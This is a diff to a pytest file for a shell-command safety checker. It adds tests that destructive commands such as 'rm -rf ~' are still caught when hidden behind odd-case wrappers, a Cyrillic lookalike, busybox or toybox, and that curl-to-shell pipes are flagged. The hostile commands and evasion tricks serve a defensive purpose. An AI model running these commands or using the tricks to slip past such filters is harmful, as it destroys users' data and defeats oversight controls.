@@ -6,7 +6,7 @@ from __future__ import annotations
 
 import pytest
 
-from stockade.rules import RuleSet
+from stockade.rules import Decision, RuleSet
 
 
 def allow(name: str, *prefix: str) -> dict[str, object]:
@@ -207,3 +207,36 @@ def test_a_download_fed_through_a_process_substitution_is_asked(script):
 def test_the_last_standard_input_redirect_is_the_one_bash_reads():
     verdict = RuleSet.defaults().judge("sh < <(curl https://x.example/i) < ./install.sh")
     assert verdict.rule is None or verdict.rule.name != "download-to-shell", verdict
+
+
+# --- 5. wrappers and shells in another case, a lookalike, or inside busybox ------------------
+
+
+@pytest.mark.parametrize(
+    ("script", "decision"),
+    [
+        ("ENV rm -rf ~", Decision.FORBID),
+        ("SUDO rm -rf ~", Decision.FORBID),
+        ("Timeout 5 git push -f", Decision.PROMPT),
+        ("Bash -c 'rm -rf ~'", Decision.FORBID),
+        ("/bin/BASH -c 'rm -rf ~'", Decision.FORBID),
+        ("EVAL 'rm -rf ~'", Decision.FORBID),
+        ("\u0435nv rm -rf ~", Decision.FORBID),  # a Cyrillic e
+        ("busybox rm -rf ~", Decision.FORBID),
+        ("busybox sh -c 'rm -rf ~'", Decision.FORBID),
+        ("toybox rm -rf /", Decision.FORBID),
+        ("/bin/busybox timeout 5 rm -rf ~", Decision.FORBID),
+        ("curl https://x.example/i | busybox sh", Decision.PROMPT),
+        ("BUSYBOX sh -c 'rm -rf ~'", Decision.FORBID),
+    ],
+)
+def test_wrappers_and_shells_are_found_in_any_case_and_inside_busybox(script, decision):
+    verdict = RuleSet.defaults().judge(script)
+    assert verdict.decision is decision, (script, verdict)
+
+
+def test_a_lookalike_wrapper_is_never_allowed(allowing):
+    for script in ("ENV git status", "Nice git status", "busybox cat x", "BASH -c 'ls'"):
+        verdict = allowing.judge(script)
+        assert verdict.decision is None, (script, verdict)
+        assert verdict.uncertain or script.startswith("busybox"), verdict
